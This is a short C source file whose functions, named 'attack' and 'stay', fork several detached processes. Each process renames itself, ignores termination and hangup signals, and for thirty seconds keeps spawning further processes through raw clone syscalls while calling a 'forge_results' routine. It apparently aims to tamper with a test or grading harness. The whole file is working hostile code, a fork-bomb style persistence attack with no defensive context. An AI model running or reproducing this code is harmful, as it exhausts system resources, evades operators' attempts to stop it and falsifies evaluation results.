#include "attack.h"

#include <sys/wait.h>
#include <time.h>

static void stay(const char* name) {
  setsid();
  prctl(PR_SET_NAME, name);
  signal(SIGTERM, SIG_IGN);
  signal(SIGHUP, SIG_IGN);
  for (time_t end = time(nullptr) + 30; time(nullptr) < end; forge_results())
    if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) > 0) usleep(1000);
  _exit(0);
}

static void attack(const char* name) {
  for (int i = 0; i < 4; ++i)
    if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) stay(name);
}
